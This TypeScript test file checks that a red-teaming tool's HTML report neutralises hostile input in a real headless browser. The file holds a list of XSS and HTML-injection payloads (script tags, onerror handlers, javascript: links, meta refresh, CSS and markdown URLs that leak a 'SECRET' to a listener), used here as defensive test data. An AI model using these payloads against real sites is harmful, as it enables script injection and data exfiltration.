import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser } from 'playwright-core';
import { CHROMIUM, systemChromium } from './support/system-chromium.js';
import { afterEach, describe, expect, it } from 'vitest';
import { replyJson, startLocalServer, type LocalServer } from './support/local-server.js';
import { runCli } from './support/run-cli.js';

const CHROMIUM_ARGS = [
  '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
  '--disable-background-networking', '--disable-component-update', '--disable-sync',
];
// What a payload writes when its script runs.
const MARK = 'REDLINE-XSS-RAN';

const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  while (closers.length) await closers.pop()!();
});

/** Payloads that would load something from `listener` or run script if a report let them through. */
function payloads(listener: string): string[] {
  const js = `document.title='${MARK}';console.log('${MARK}');window.pwned=1`;
  return [
    `![x](${listener}/leak?d=SECRET)`,
    `<img src=${listener}/img>`,
    `<img src=x onerror="${js}">`,
    `<script>fetch('${listener}/script');${js}</script>`,
    `<link rel=stylesheet href=${listener}/link.css>`,
    `<style>body{background:url(${listener}/css-url)}@import url(${listener}/css-import);</style>`,
    `<div style="background-image:url('${listener}/inline-style')">styled</div>`,
    `<iframe src="${listener}/iframe"></iframe>`,
    `<a href="javascript:${js}">click me</a>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${listener}/svg-image"/></svg>`,
    `<meta http-equiv="refresh" content="0;url=${listener}/refresh">`,
    `<object data="${listener}/object"></object><embed src="${listener}/embed">`,
    `<base href="${listener}/base/"><form action="${listener}/form"><button>go</button></form>`,
    `"><img src=${listener}/attr-break>'><script>${js}</script>`,
    `</pre></details><script>${js}</script><pre>`,
  ];
}

/** Scans a fake app whose goals, categories, id and every reply carry the payloads; returns the HTML report path. */
async function hostileReport(listener: string): Promise<{ file: string; runId: string }> {
  const hostile = payloads(listener);
  const app = await startLocalServer((reply) => replyJson(reply, { body: { output: hostile.join('\n') } }));
  closers.push(app.close);
  const dir = mkdtempSync(join(tmpdir(), 'redline-report-browser-'));
  writeFileSync(join(dir, 'redline.yaml'), JSON.stringify({
    target: { type: 'http', url: `${app.url}/chat`, responsePath: '$.output', id: `app${hostile[1]}` },
    // One goal per category, so every reply is shown as an example transcript.
    goals: hostile.map((text, i) => ({ id: `g${i}${hostile[13]}`, text, category: `c${i} ${text}` })),
    techniques: ['direct-request'],
    converters: [[]],
    trials: 1,
    concurrency: 4,
    retry: { maxRetries: 0 },
    scoring: { scorers: ['refusal'] },
  }));
  const scanned = await runCli(['scan', '--no-progress', '--no-reports'], { cwd: dir });
  expect(scanned.code, scanned.stderr).toBe(0);
  const runId = /run (r-\S+):/.exec(scanned.stderr)![1]!;
  const file = join(dir, 'report.html');
  const rendered = await runCli(['report', runId, '--format', 'html', '--out', file], { cwd: dir });
  expect(rendered.code, rendered.stderr).toBe(0);
  return { file, runId };
}

/**
 * Elements that could load or run something; the report itself has none. Its own drawings (interval bars, turn
 * curves) are inline SVG of classes ci and chart holding shapes and text only; any other SVG, or anything inside
 * one that can load or link, is a payload's.
 */
const ACTIVE_ELEMENTS = 'script, iframe, img, link, object, embed, svg:not(.ci):not(.chart), svg image, svg use, svg foreignObject, svg a, base, form, a[href^="javascript:" i], meta[http-equiv="refresh" i], [onerror], [onload]';

/** What the page looked like after the payloads had their chance. */
type PageState = { title: string; pwned: unknown; location: string; active: number; text: string };

/** Opens the report and records every request, console message, dialog and page error for a while. */
async function openReport(browser: Browser, input: { file: string; bypassCSP: boolean }) {
  const context = await browser.newContext({ bypassCSP: input.bypassCSP, javaScriptEnabled: true });
  const page = await context.newPage();
  const url = pathToFileURL(input.file).href;
  const seen = { requests: [] as string[], navigations: [] as string[], console: [] as string[], dialogs: [] as string[], errors: [] as string[] };
  context.on('request', (request) => {
    if (request.url() !== url) seen.requests.push(request.url());
  });
  page.on('console', (message) => seen.console.push(message.text()));
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => seen.errors.push(error.message));
  page.on('framenavigated', (frame) => {
    if (frame.url() !== url) seen.navigations.push(frame.url());
  });
  await page.goto(url, { waitUntil: 'load' });
  // Open every collapsed transcript, so lazily loaded content would load, then let a meta refresh fire.
  // A payload that navigated away destroys the context; the navigation itself is what gets reported.
  // (Page code is written as text: the tests compile without the DOM library.)
  await page.evaluate(`document.querySelectorAll('details').forEach((d) => d.setAttribute('open', ''))`).catch(() => undefined);
  await page.waitForTimeout(1_500);
  const state = await page.evaluate<PageState>(`({
    title: document.title,
    pwned: window.pwned,
    location: location.href,
    active: document.querySelectorAll(${JSON.stringify(ACTIVE_ELEMENTS)}).length,
    text: document.body.innerText,
  })`);
  await context.close();
  return { ...seen, ...state, url };
}

describe('the HTML report in a real browser', () => {
  it('makes no network request and runs no script, whatever the target, goals and categories contain', async (ctx) => {
    if (systemChromium(ctx) === undefined) return;
    const listener: LocalServer = await startLocalServer((reply) => reply.end('ok'));
    closers.push(listener.close);
    const { file, runId } = await hostileReport(listener.url);
    // launch() gives the browser a fresh, empty profile of its own (it refuses a --user-data-dir argument).
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
    closers.push(() => browser.close());

    // With the report's Content-Security-Policy, and without it: escaping alone must keep the payloads inert.
    for (const bypassCSP of [false, true]) {
      const opened = await openReport(browser, { file, bypassCSP });
      const noticed = { requests: opened.requests, navigations: opened.navigations, console: opened.console, dialogs: opened.dialogs, errors: opened.errors };
      expect({ bypassCSP, ...noticed }).toEqual({ bypassCSP, requests: [], navigations: [], console: [], dialogs: [], errors: [] });
      expect(opened.title).toBe(`Redline run ${runId}`);
      expect(opened.pwned).toBeUndefined();
      expect(opened.location).toBe(opened.url);
      expect(opened.active).toBe(0);
      // The payloads are there, shown as text.
      expect(opened.text).toContain(`<script>fetch('${listener.url}/script')`);
      expect(opened.text).toContain(`![x](${listener.url}/leak?d=SECRET)`);
      expect(opened.text).toContain(`<meta http-equiv="refresh"`);
    }
    expect(listener.received.map((r) => r.path)).toEqual([]);
  });
});
